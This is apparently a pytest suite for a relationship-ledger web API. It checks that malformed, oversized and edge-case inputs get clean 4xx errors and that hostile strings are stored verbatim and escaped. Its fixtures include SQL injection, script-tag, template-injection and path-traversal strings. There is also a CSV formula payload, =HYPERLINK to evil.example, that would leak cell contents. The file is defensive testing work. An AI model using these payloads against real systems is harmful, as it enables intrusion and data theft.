"""Bad input gets a clear 4xx problem, never a 5xx and never a partial write:
oversized and deeply nested bodies, invalid UTF-8, huge pagination limits, and
injection strings in every text field (stored and returned verbatim, escaped in
the pages, never executed)."""

from __future__ import annotations

import pytest

from tests.api.conftest import Api
from tests.helpers import ManualClock

INJECTIONS = [
    "'; DROP TABLE ebbflow_ledger_events; --",
    '" OR 1=1 --',
    "<script>alert('x')</script>",
    "{{ 7*7 }} ${7*7} %s %(x)s {0}",
    "\u202etxt.exe",
    "👩‍❤️‍👨 ünïcödé",
    "../../etc/passwd",
]
TEXT_FIELDS = {
    "needs": ("need", {"intensity": 2, "support_type": "emotional"}),
    "moments": ("text", {"kind": "good_news"}),
    "check-ins": ("note", {"felt_supported": 5}),
}


def version(api: Api, person: object, ledger: str) -> int:
    return int(person.get(f"/api/v1/ledgers/{ledger}").json["version"])  # type: ignore[attr-defined]


@pytest.mark.parametrize("body", [
    b"[" * 5000 + b"]" * 5000,  # nesting deep enough to exhaust a naive parser
    b'{"need": "\xff\xfe not utf-8", "intensity": 2, "support_type": "emotional"}',
    b'{"need": "cut',
    b"null",
    b'"a string"',
    b'{"need": ' + b'"x"' * 3 + b"}",
])
def test_malformed_bodies_are_4xx_problems_and_write_nothing(api: Api, body: bytes) -> None:
    alex, _, ledger = api.couple()
    before = version(api, alex, ledger)
    answer = alex.call("POST", f"/api/v1/ledgers/{ledger}/needs", data=body,
                       headers={"Content-Type": "application/json"})
    assert 400 <= answer.status_code < 500, answer.get_data(as_text=True)[:200]
    assert answer.headers["Content-Type"].startswith("application/problem+json")
    assert version(api, alex, ledger) == before


def test_an_oversized_body_is_413_before_anything_is_read(api: Api) -> None:
    alex, _, ledger = api.couple()
    before = version(api, alex, ledger)
    answer = alex.post(f"/api/v1/ledgers/{ledger}/needs", {
        "need": "x" * 100_000, "intensity": 2, "support_type": "emotional"})
    assert answer.status_code == 413
    assert version(api, alex, ledger) == before


@pytest.mark.parametrize("limit", ["1000000000000000000000", "-1", "0", "1e9", "NaN"])
def test_huge_or_odd_pagination_limits_are_422(api: Api, limit: str) -> None:
    alex, _, ledger = api.couple()
    answer = alex.get(f"/api/v1/ledgers/{ledger}/timeline?limit={limit}")
    assert answer.status_code == 422, answer.get_data(as_text=True)[:200]


def test_control_characters_are_refused_clearly(api: Api) -> None:
    alex, _, ledger = api.couple()
    before = version(api, alex, ledger)
    answer = alex.post(f"/api/v1/ledgers/{ledger}/needs", {
        "need": "nul \u0000 inside", "intensity": 2, "support_type": "emotional"})
    assert answer.status_code == 422
    assert "need" in answer.json["errors"]
    assert version(api, alex, ledger) == before


def test_injection_strings_are_stored_and_returned_verbatim(api: Api,
                                                            clock: ManualClock) -> None:
    alex, _, ledger = api.couple()
    for path, (field, rest) in TEXT_FIELDS.items():
        for text in INJECTIONS if path != "check-ins" else INJECTIONS[:3]:
            if path == "check-ins":
                clock.advance(days=7)  # one check-in a week (a token lives 30 days)
            answer = alex.post(f"/api/v1/ledgers/{ledger}/{path}", {**rest, field: text})
            assert answer.status_code == 201, (path, text, answer.get_data(as_text=True))
            assert answer.json[field] == text
    api.sync()
    items = alex.get(f"/api/v1/ledgers/{ledger}/timeline?limit=100").json["items"]
    stored = {item.get("need") or item.get("text") or item.get("note") for item in items}
    assert set(INJECTIONS) <= stored
    # the tables are intact: the ledger still reads and writes
    assert alex.post(f"/api/v1/ledgers/{ledger}/needs", {
        "need": "after", "intensity": 1, "support_type": "esteem"}).status_code == 201


def test_injection_strings_pass_verbatim_through_every_other_text_field(api: Api) -> None:
    """Feeling, situation, care, acknowledgement and resolution notes, amendment and
    retraction reasons, the ledger's name and a display name: each takes every
    injection string and gives it back unchanged."""
    alex, sam, ledger = api.couple()
    base = f"/api/v1/ledgers/{ledger}"
    for n, text in enumerate(INJECTIONS):
        need = alex.post(f"{base}/needs", {"need": "n", "feeling": text, "situation": text,
                                           "intensity": 1, "support_type": "esteem"})
        assert (need.json["feeling"], need.json["situation"]) == (text, text)
        care = sam.post(f"{base}/care", {"description": text, "support_type": "esteem",
                                         "in_response_to": need.json["id"]})
        assert care.json["description"] == text
        ack = alex.post(f"{base}/care/{care.json['id']}/acknowledgement",
                        {"adequacy": "right", "note": text})
        assert ack.status_code == 201 and ack.json["note"] == text
        resolved = alex.post(f"{base}/needs/{need.json['id']}/resolution",
                             {"outcome": "met", "note": text})
        assert resolved.status_code == 201, resolved.get_data(as_text=True)
        other = alex.post(f"{base}/needs", {"need": "m", "intensity": 1,
                                            "support_type": "esteem"}).json["id"]
        amended = alex.post(f"{base}/entries/{other}/amendments",
                            {"changes": {"intensity": 2}, "reason": text})
        assert amended.status_code == 201, amended.get_data(as_text=True)
        retracted = alex.post(f"{base}/entries/{other}/retraction", {"reason": text})
        assert retracted.status_code == 201, retracted.get_data(as_text=True)
        opened = alex.post("/api/v1/ledgers", {"name": text})
        assert opened.status_code == 201 and opened.json["name"] == text
        named = alex.call("PATCH", "/api/v1/accounts/me", json={
            "display_name": text[:80], "current_password": "correct horse battery"})
        assert named.status_code == 200 and named.json["display_name"] == text[:80], n


EDGE_QUERIES = [
    "balance?as_of=0001-01-01T00:00:00Z",
    "balance?as_of=0001-02-20T00:00:00Z&window_weeks=104",
    "balance?as_of=0001-01-01T00:00:00%2B01:00",
    "balance/series?from=0001-01-01&to=0001-01-08",
    "balance/series?from=9999-12-24&to=9999-12-31",
    "timeline?as_of=9999-12-31T23:59:00-01:00",
    "timeline?from=0001-01-01&to=0001-01-02",
    "events?after=1000000000000000000000000000000",
    "events?known_at=0001-01-01T00:00:00%2B01:00",
    "export?format=json&to=0001-01-01",
    "export?format=pdf&to=0001-01-01",
    "export?format=csv&from=9999-12-31",
    "timeline?cursor=eyJhIjogWzEsIDJdLCAicyI6ICJ4In0",  # a hand-made cursor
]


@pytest.mark.parametrize("query", EDGE_QUERIES)
def test_times_near_year_one_or_9999_and_huge_numbers_are_422_never_500(
    api: Api, query: str,
) -> None:
    alex, _, ledger = api.couple()
    answer = alex.get(f"/api/v1/ledgers/{ledger}/{query}")
    body = answer.get_data()  # the whole body: a stream cut short would raise here
    assert answer.status_code == 422, body
    assert answer.mimetype == "application/problem+json"


@pytest.mark.parametrize("when", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:00-01:00"])
def test_times_near_year_one_or_9999_in_bodies_are_422(api: Api, when: str) -> None:
    alex, _, ledger = api.couple()
    answer = alex.post(f"/api/v1/ledgers/{ledger}/needs", {
        "need": "n", "intensity": 1, "support_type": "esteem", "occurred_at": when})
    assert answer.status_code == 422
    assert "occurred_at" in answer.json["errors"]


def test_forged_cursors_of_another_shape_are_422(api: Api) -> None:
    import base64
    import json

    from web.api.reads import scope_of

    alex, _, ledger = api.couple()
    for route, after in (("timeline", {"x": 1}), ("timeline", [10**30, "z"]),
                         ("timeline", ["1", "z"]), ("events", "12"), ("events", [1]),
                         ("events", True)):
        with api.app.test_request_context():
            from flask import g

            g.account_id = __import__("uuid").UUID(alex.id)
            scope = scope_of(__import__("uuid").UUID(ledger), {})
        raw = json.dumps({"a": after, "s": scope}).encode()
        cursor = base64.urlsafe_b64encode(raw).decode().rstrip("=")
        answer = alex.get(f"/api/v1/ledgers/{ledger}/{route}?cursor={cursor}")
        assert answer.status_code == 422, (route, after)


@pytest.mark.parametrize("name", ["Łukasz", "Ψυχή μας", "家族", "Zoë & \"Kim\"\r\n"])
def test_downloads_of_a_ledger_with_any_name_work(api: Api, name: str) -> None:
    from urllib.parse import quote

    alex, sam = api.person("Alex"), api.person("Sam")
    opened = alex.post("/api/v1/ledgers", {"name": name})
    assert opened.status_code == 201
    ledger = opened.json["id"]
    for fmt in ("json", "csv", "pdf"):
        answer = alex.get(f"/api/v1/ledgers/{ledger}/export?format={fmt}")
        assert answer.status_code == 200
        disposition = answer.headers["Content-Disposition"]
        assert disposition.isascii() and "\r" not in disposition and "\n" not in disposition
        assert "filename*=UTF-8''" in disposition
        answer.close()
        real = name.strip().replace('"', "").replace("\r\n", "").replace(" ", "-")
        if name.isalnum() or " " in name:
            assert quote(real, safe="")[:6] in disposition
    assert sam  # the second partner is not needed to export


def test_csv_cells_never_start_a_formula(api: Api) -> None:
    import csv
    import io

    alex, _, ledger = api.couple()
    for words in ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-3", "@SUM(A1)",
                  "\tTAB", "plain words"):
        alex.post(f"/api/v1/ledgers/{ledger}/moments", {"kind": "good_news", "text": words})
    api.sync()
    text = alex.get(f"/api/v1/ledgers/{ledger}/export?format=csv").get_data(as_text=True)
    cells = [row["words"] for row in csv.DictReader(io.StringIO(text))]
    assert "plain words" in cells
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells)
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells


@pytest.mark.parametrize("value", [1, 0, "yes", "true", "on", None])
def test_booleans_accept_only_json_true_or_false(api: Api, value: object) -> None:
    alex, _, ledger = api.couple()
    answer = alex.post(f"/api/v1/ledgers/{ledger}/needs", {
        "need": "n", "intensity": 1, "support_type": "esteem", "recurring": value})
    assert answer.status_code == 422
    assert "recurring" in answer.json["errors"]
